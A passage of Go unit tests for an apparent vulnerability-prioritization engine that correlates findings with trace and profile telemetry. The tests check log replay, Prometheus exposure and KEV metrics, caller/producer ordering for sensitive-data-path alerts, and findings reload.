	ctx := context.Background()
	st, err := sqlite.Open(ctx, t.TempDir(), sqlite.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	more := shopSpans()
	for i := range more {
		more[i].SpanID[0], more[i].ParentSpanID[0] = 9, 9
		more[i].Attrs.HTTPRoute += "/v2"
	}
	more[0].ParentSpanID = [8]byte{}
	// What the previous version logged.
	if _, err := st.AppendBatch(ctx, store.BatchSpans, gobSpans(t, shopSpans())); err != nil {
		t.Fatal(err)
	}
	e1 := newEngine(t, testConfig(), noCheckpoint{st}, nil, nil)
	start(t, e1)
	if err := e1.TracesConsumer().Consume(ctx, more); err != nil {
		t.Fatal(err)
	}
	if err := e1.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	var kinds []store.BatchKind
	if err := st.Batches(ctx, 0, func(seq int64, kind store.BatchKind, payload []byte) error {
		kinds = append(kinds, memBatch{seq, kind, payload}.inner(t).kind)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]store.BatchKind{store.BatchSpans, store.BatchTraceRequestS2}, kinds); diff != "" {
		t.Fatalf("logged kinds (-want +got):\n%s", diff)
	}

	live := newEngine(t, testConfig(), &memStore{}, nil, nil)
	start(t, live)
	for _, spans := range [][]telemetry.Span{shopSpans(), more} {
		if err := live.TracesConsumer().Consume(ctx, spans); err != nil {
			t.Fatal(err)
		}
	}
	if err := live.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	e2 := newEngine(t, testConfig(), st, nil, nil)
	start(t, e2)
	if e2.model.Snapshot().Service("orders") == nil {
		t.Fatal("nothing replayed")
	}
	if diff := cmp.Diff(live.model.Snapshot(), e2.model.Snapshot()); diff != "" {
		t.Errorf("model replayed from the mixed log (-applied live +replayed):\n%s", diff)
	}
}

// TestViewMetrics: the gauges of the findings follow the current view,
// by service, tier, verdict and exposure, and every service of the model
// has its exposure; the known exploited ones are counted only with a KEV
// catalog (Deps.KEV).
func TestViewMetrics(t *testing.T) {
	reg := prometheus.NewRegistry()
	e := newEngine(t, testConfig(), &memStore{}, &recorder{}, reg)
	e.kev = true // as Deps.KEV sets it
	start(t, e)
	ctx := context.Background()
	if err := e.SetFindings(ctx, allFindings(textFinding("orders"), textFinding("billing"))); err != nil {
		t.Fatal(err)
	}
	if err := e.TracesConsumer().Consume(ctx, shopSpans()); err != nil {
		t.Fatal(err)
	}
	if err := e.ProfilesConsumer().Consume(ctx, []*telemetry.ProfileBatch{textProfile("orders", true)}); err != nil {
		t.Fatal(err)
	}
	eventually(t, "executed", func() bool { return verdictOf(e, "orders") == assess.Executed })
	if got := e.View().Exposure["gateway"]; got.Level != assess.Exposed {
		t.Errorf("the view's exposure of gateway, which has no finding: %+v, want exposed", got)
	}
	want := `
# HELP evident_findings Findings of the current assessment, by service, priority tier, runtime verdict and exposure of the service.
# TYPE evident_findings gauge
evident_findings{exposure="internal",service="orders",tier="P2",verdict="executed"} 1
evident_findings{exposure="unknown",service="billing",tier="P3",verdict="unknown"} 1
# HELP evident_findings_known_exploited Findings of the current assessment whose vulnerability is in CISA's KEV catalog, by service and runtime verdict.
# TYPE evident_findings_known_exploited gauge
evident_findings_known_exploited{service="billing",verdict="unknown"} 0
evident_findings_known_exploited{service="orders",verdict="executed"} 0
# HELP evident_service_info 1 for each service of the runtime model, labelled with its exposure.
# TYPE evident_service_info gauge
evident_service_info{exposure="exposed",service="gateway"} 1
evident_service_info{exposure="internal",service="orders"} 1
# HELP evident_findings_decided_ratio Share of the findings whose verdict runtime evidence decided (executed, loaded or not_observed: every verdict but unknown).
# TYPE evident_findings_decided_ratio gauge
evident_findings_decided_ratio 0.5
`
	if err := testutil.GatherAndCompare(reg, strings.NewReader(want), "evident_findings", "evident_findings_known_exploited", "evident_service_info", "evident_findings_decided_ratio"); err != nil {
		t.Error(err)
	}
	if n, err := testutil.GatherAndCount(reg, "evident_assessment_timestamp_seconds", "evident_backlog_reduction_ratio"); err != nil || n != 2 {
		t.Errorf("assessment time and backlog reduction: %d series, %v; want 2", n, err)
	}

	e.kev = false // no catalog: a 0 would say none is exploited
	if n, err := testutil.GatherAndCount(reg, "evident_findings_known_exploited"); err != nil || n != 0 {
		t.Errorf("without a KEV catalog: %d evident_findings_known_exploited series, %v; want none", n, err)
	}
	if n, err := testutil.GatherAndCount(reg, "evident_findings"); err != nil || n != 2 {
		t.Errorf("without a KEV catalog: %d evident_findings series, %v; want 2", n, err)
	}
}

// TestCalleeBeforeCaller: the spans of orders, which reads a sensitive
// table, arrive before those of the gateway that called it, as they do
// when the callee's SDK exports first. Until the gateway's arrive, orders
// waits for its caller: neither exposed nor alerting. Then only the
// gateway, exposed, alerts. Without a caller within the join window,
// orders is exposed and alerts, though its path is not new by then.
func TestCalleeBeforeCaller(t *testing.T) {
	ordersSpans := func() []telemetry.Span { return shopSpans()[2:] }
	for _, callerArrives := range []bool{true, false} {
		t.Run(fmt.Sprintf("caller arrives %v", callerArrives), func(t *testing.T) {
			rec := &recorder{}
			e := newEngine(t, testConfig(), &memStore{}, rec, nil)
			var clock atomic.Int64
			clock.Store(t0.UnixNano())
			e.model.SetClock(func() time.Time { return time.Unix(0, clock.Load()) })
			start(t, e)
			ctx := context.Background()
			if err := e.TracesConsumer().Consume(ctx, ordersSpans()); err != nil {
				t.Fatal(err)
			}
			eventually(t, "orders assessed", func() bool {
				_, ok := e.View().Exposure["orders"]
				return ok
			})
			if got := e.View().Exposure["orders"]; got.Level != assess.ExposureUnknown || !strings.HasPrefix(got.Rule, "waiting for callers") {
				t.Errorf("orders exposure before its caller = %+v, want unknown, waiting for callers", got)
			}
			if callerArrives {
				clock.Add(int64(5 * time.Second))
				if err := e.TracesConsumer().Consume(ctx, shopSpans()[:2]); err != nil {
					t.Fatal(err)
				}
				eventually(t, "the gateway's alert", func() bool { return len(rec.of(detect.KindSensitivePath)) > 0 })
				if got := e.View().Exposure["orders"].Level; got != assess.Internal {
					t.Errorf("orders exposure after its caller = %s, want internal", got)
				}
			} else {
				clock.Add(int64(model.DefaultConfig().JoinWindow))
				eventually(t, "the alert of orders", func() bool { return len(rec.of(detect.KindSensitivePath)) > 0 })
			}
			want := []string{"orders"}
			if callerArrives {
				want = []string{"gateway", "orders"}
			}
			var got []string
			for _, a := range rec.of(detect.KindSensitivePath) {
				got = append(got, strings.Join(a.Evidence.Path, " -> "))
			}
			if want := []string{strings.Join(want, " -> ")}; !cmp.Equal(got, want) {
				t.Errorf("sensitive path alerts = %q, want %q", got, want)
			}
		})
	}
}

// TestConsumerBeforeProducer: worker pulls messages from kafka://orders
// and reads a sensitive table; its spans arrive before the first of the
// gateway producing to orders, as they do when the producer's SDK
// exports later. Until the gateway's arrive, worker waits for its
// producers: neither exposed nor alerting. Then only the gateway,
// exposed, alerts, through worker. Without a producer within the join
// window, worker is fed from outside the traced system, and alerts.
// Before, worker alerted at once as exposed, though the gateway's span
// to orders was on its way.
func TestConsumerBeforeProducer(t *testing.T) {
	orders := func(op string) telemetry.Attrs {
		return telemetry.Attrs{MessagingSystem: "kafka", MessagingDestination: "orders", MessagingOperation: op}
	}
	worker := []telemetry.Span{
		span("worker", telemetry.SpanKindClient, 10, 0, orders("receive")),
		span("worker", telemetry.SpanKindClient, 11, 10, telemetry.Attrs{DBSystem: "postgresql", DBNamespace: "shop", DBCollection: "customers",
			DBQueryText: "SELECT * FROM customers WHERE id = ?"}),
	}
	gateway := []telemetry.Span{
		span("gateway", telemetry.SpanKindServer, 1, 0, telemetry.Attrs{HTTPMethod: "POST", HTTPRoute: "/orders", URLPath: "/orders"}),
		span("gateway", telemetry.SpanKindProducer, 2, 1, orders("send")),
	}
	for _, producerArrives := range []bool{true, false} {
		t.Run(fmt.Sprintf("producer arrives %v", producerArrives), func(t *testing.T) {
			rec := &recorder{}
			e := newEngine(t, testConfig(), &memStore{}, rec, nil)
			var clock atomic.Int64
			clock.Store(t0.UnixNano())
			e.model.SetClock(func() time.Time { return time.Unix(0, clock.Load()) })
			start(t, e)
			ctx := context.Background()
			if err := e.TracesConsumer().Consume(ctx, worker); err != nil {
				t.Fatal(err)
			}
			eventually(t, "worker assessed", func() bool {
				_, ok := e.View().Exposure["worker"]
				return ok
			})
			if got := e.View().Exposure["worker"]; got.Level != assess.ExposureUnknown || !strings.HasPrefix(got.Rule, "waiting for producers") {
				t.Errorf("worker exposure before its producer = %+v, want unknown, waiting for producers", got)
			}
			if producerArrives {
				clock.Add(int64(5 * time.Second))
				if err := e.TracesConsumer().Consume(ctx, gateway); err != nil {
					t.Fatal(err)
				}
				eventually(t, "the gateway's alert", func() bool { return len(rec.of(detect.KindSensitivePath)) > 0 })
				if got := e.View().Exposure["worker"].Level; got != assess.Internal {
					t.Errorf("worker exposure after its producer = %s, want internal", got)
				}
			} else {
				clock.Add(int64(model.DefaultConfig().JoinWindow))
				eventually(t, "the alert of worker", func() bool { return len(rec.of(detect.KindSensitivePath)) > 0 })
			}
			want := "service worker is now exposed (fed from outside the traced system: no SERVER/CONSUMER spans, and no traced service produces to kafka://orders, which it pulls messages from with CLIENT spans) and reaches pii store postgresql://shop/customers via worker"
			if producerArrives {
				want = "exposed service gateway now reaches pii store postgresql://shop/customers via gateway -> worker"
			}
			var got []string
			for _, a := range rec.of(detect.KindSensitivePath) {
				got = append(got, a.Summary)
			}
			if want := []string{want}; !cmp.Equal(got, want) {
				t.Errorf("sensitive path alerts = %q, want %q", got, want)
			}
		})
	}
}

// TestReloadFindings: findings another process stored reach a running
// engine when it reloads them; before Start, a reload does nothing.
func TestReloadFindings(t *testing.T) {
	ctx := context.Background()
	st := &memStore{}
	e := newEngine(t, testConfig(), st, nil, nil)
	if err := e.ReloadFindings(ctx); err != nil {
		t.Fatalf("ReloadFindings before Start = %v", err)
	}
	start(t, e)
	if err := st.PutFindings(ctx, allFindings(textFinding("shop"))); err != nil {
		t.Fatal(err)
	}
	if got := len(e.Assessments()); got != 0 {
		t.Fatalf("%d assessments before the reload, want 0", got)
	}
	if err := e.ReloadFindings(ctx); err != nil {
		t.Fatal(err)
	}
	if got := verdictOf(e, "shop"); got != assess.Unknown {
		t.Errorf("verdict of the reloaded finding = %q, want unknown (assessed)", got)
	}
}
